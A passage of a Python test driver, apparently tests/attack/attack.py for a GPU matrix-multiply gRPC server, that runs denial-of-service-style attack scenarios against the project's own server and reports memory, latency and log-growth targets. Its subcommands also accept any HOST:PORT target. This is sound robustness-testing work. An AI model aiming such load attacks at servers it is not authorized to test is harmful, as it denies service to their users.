    args.workdir = args.workdir or tempfile.mkdtemp(prefix="gemm-attack-")
    os.makedirs(args.workdir, exist_ok=True)

    async def everything():
        say = (lambda *a: print(*a, file=sys.stderr, flush=True))
        say("baseline (no attack)...")
        args.rss_bound = None  # known once a server has said its budget
        baseline = await run_scenario("baseline", [], args, overrides, None)
        info = baseline["server"]["info"]
        # gRPC's buffers are bounded by its resource quota
        # (--grpc-memory-bytes; the server's default is 2 GiB).
        grpc_memory = args.grpc_memory_bytes or 2 * GiB
        args.rss_bound = (info["max_inflight_bytes"] + grpc_memory +
                          args.rss_overhead_mib * MiB)
        report = {
            # The header of bench/gemmbench.py's reports, so that a report
            # kept as bench/baselines/GPU/attack.json gets its table.
            "schema_version": 1,
            "scenario": "attack" if args.scale == "ci" else "attack-full",
            "backend": info.get("backend"),
            "gpu": query_gpus(),
            "tool": "tests/attack/attack.py",
            "date": datetime.datetime.now().astimezone().isoformat(
                timespec="seconds"),
            "commit": commit_of(args.commit),
            "host": host_description(),
            "server_binary": binary_description(args.server),
            "client_binary": binary_description(args.client),
            "scale": args.scale,
            "server_flags": args.server_flags,
            "settings": {k: getattr(args, k) for k in (
                "hold_s", "settle_s", "idle_s", "lead_s", "victim_warmup_s",
                "victim_rate", "victim_concurrency", "victim_shapes",
                "victim_unary_share", "victim_arg", "attacker_nice")},
            "bounds": {"rss_bound_mib": mib(args.rss_bound),
                       "rss_bound_rule": "max_inflight_bytes (%d MiB) + "
                       "grpc_memory_bytes (%d MiB) + --rss-overhead-mib %d" % (
                           mib(info["max_inflight_bytes"]), mib(grpc_memory),
                           args.rss_overhead_mib),
                       "rss_return_mib": args.rss_return_mib,
                       "p99_factor": args.p99_factor,
                       "log_bytes_per_bad_request":
                           args.log_bytes_per_request,
                       "rss_safety_mib": mib(args.rss_safety_bytes)},
            "attack_params": {a: attack_params(a, args.scale, overrides)
                              for a in attacks},
            "workdir": args.workdir,
        }
        report["baseline"] = baseline
        scenarios = [] if args.only_together else [[a] for a in attacks]
        if len(attacks) > 1 and not args.no_together:
            scenarios.append(list(attacks))
        report["scenarios"] = []
        for group in scenarios:
            name = group[0] if len(group) == 1 else "together"
            say("%s..." % name)
            s = await run_scenario(name, group, args, overrides,
                                   report["baseline"])
            report["scenarios"].append(s)
            say("  %s" % table({"baseline": report["baseline"],
                                "scenarios": [s]}).splitlines()[3])
            with open(args.out, "w") as f:
                json.dump(report, f, indent=1)
        missed = {s["scenario"]: [k for k, t in s["targets"].items()
                                  if not t["pass"]]
                  for s in report["scenarios"]}
        report["summary"] = {
            "targets": sum(len(s["targets"]) for s in report["scenarios"]),
            "missed": sum(len(v) for v in missed.values()),
            "missed_by_scenario": {k: v for k, v in missed.items() if v}}
        with open(args.out, "w") as f:
            json.dump(report, f, indent=1)
        return report

    report = asyncio.run(everything())
    print(table(report))
    print("\nreport: %s (%d of %d targets missed)" % (
        args.out, report["summary"]["missed"], report["summary"]["targets"]))
    return 1 if args.check and report["summary"]["missed"] else 0


def main_attack(args):
    raise_own_nofile()
    host, _, port = args.target.rpartition(":")
    host, port = host.strip("[]"), int(port)
    overrides = parse_set(args.set)
    params = attack_params(args.attack, args.scale, overrides)
    hold = args.hold_s if args.hold_s is not None else \
        SCALES[args.scale]["hold_s"]

    async def go():
        got = await raw_info(host, port)
        if not got["ok"]:
            raise SystemExit("Info failed: %s" % got.get("error"))
        info = got["info"]
        stop = asyncio.Event()
        ctx = AttackContext(host, port, info, params, stop,
                            info["max_inflight_bytes"] +
                            args.rss_overhead_mib * MiB)
        task = asyncio.ensure_future(run_attack(args.attack, ctx))
        try:
            await asyncio.wait_for(asyncio.shield(task), hold)
        except asyncio.TimeoutError:
            pass
        stop.set()
        return await task
    print(json.dumps(asyncio.run(go()), indent=1))
    return 0


def main_params(_):
    for attack, params in PARAMS.items():
        print(attack)
        for k, (ci, full, text) in params.items():
            print("  %-15s ci %-8s full %-8s %s" % (k, ci, full, text))
    print("\ndriver (run) settings per scale:")
    for k in SCALES["ci"]:
        print("  --%-20s ci %-10s full %s" % (k.replace("_", "-"),
                                              SCALES["ci"][k],
                                              SCALES["full"][k]))
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0],
        formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    run = sub.add_parser("run", help="start servers, attack, measure, report")
    run.add_argument("--server", required=True, help="gemm-server binary")
    run.add_argument("--client", required=True, help="gemm-client binary")
    run.add_argument("--attacks", default="all",
                     help="comma-separated attacks, or all")
    run.add_argument("--out", default="attack-report.json")
    add_scale_flags(run)
    run.add_argument("--commit", help="commit the binaries were built from "
                     "(default: git rev-parse HEAD here)")
    run.add_argument("--server-arg", action="append", metavar="FLAGS",
                     help="extra gemm-server flags (repeatable, shell words)")
    run.add_argument("--victim-arg", action="append", metavar="FLAGS",
                     help="extra gemm-client load flags")
    run.add_argument("--max-inflight-bytes", type=int,
                     help="the server's budget (ci 256 MiB; full: the "
                     "server's default)")
    run.add_argument("--grpc-memory-bytes", type=int,
                     help="the server's --grpc-memory-bytes (ci: 256 MiB; "
                     "full: the server's default, 2 GiB)")
    run.add_argument("--rss-overhead-mib", type=int, default=512,
                     help="rss_bound = max_inflight_bytes + "
                     "grpc_memory_bytes + this")
    run.add_argument("--rss-return-mib", type=int, default=128,
                     help="after the attack RSS must be within idle + this")
    run.add_argument("--p99-factor", type=float, default=2.0)
    run.add_argument("--log-bytes-per-request", type=float, default=1.0,
                     help="bad-utf8: log bytes per bad request allowed")
    run.add_argument("--rss-safety-mib", type=int,
                     help="stop an attack when the server's RSS passes this, "
                     "to protect the machine (0: 60%% of its memory)")
    for k in ("hold_s", "settle_s", "idle_s", "lead_s", "victim_warmup_s",
              "victim_rate"):
        run.add_argument("--" + k.replace("_", "-"), type=float)
    run.add_argument("--victim-concurrency", type=int, default=32,
                     help="cap on the victim's jobs outstanding")
    run.add_argument("--victim-shapes", default="64x64x64:0.9,256x256x256:0.1")
    run.add_argument("--victim-unary-share", type=float, default=0.25)
    run.add_argument("--attacker-nice", type=int, default=0,
                     help="lower the attacks' CPU priority by this much "
                     "(gemm-server and the victim keep theirs): on a small "
                     "host, what the victim then loses is the server's "
                     "doing, not the attacker's own CPU")
    run.add_argument("--no-together", action="store_true",
                     help="skip the all-attacks-at-once scenario")
    run.add_argument("--only-together", action="store_true")
    run.add_argument("--dump-stacks", action="store_true",
                     help="halfway through each attack, write the server's "
                     "thread stacks (gdb, which pauses the server meanwhile) "
                     "to WORKDIR/SCENARIO.stacks.txt")
    run.add_argument("--workdir", help="server logs, victim reports "
                     "(default: a new temporary folder)")
    run.add_argument("--check", action="store_true",
                     help="exit 1 when a target is missed")
    run.set_defaults(func=main_run)
    sub.add_parser("params", help="list attack parameters").set_defaults(
        func=main_params)
    for name in ATTACKS:
        p = sub.add_parser(name, help="run this attack against a server")
        p.add_argument("--target", required=True, help="HOST:PORT")
        p.add_argument("--hold-s", type=float)
        p.add_argument("--rss-overhead-mib", type=int, default=512)
        add_scale_flags(p)
        p.set_defaults(func=main_attack, attack=name)
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
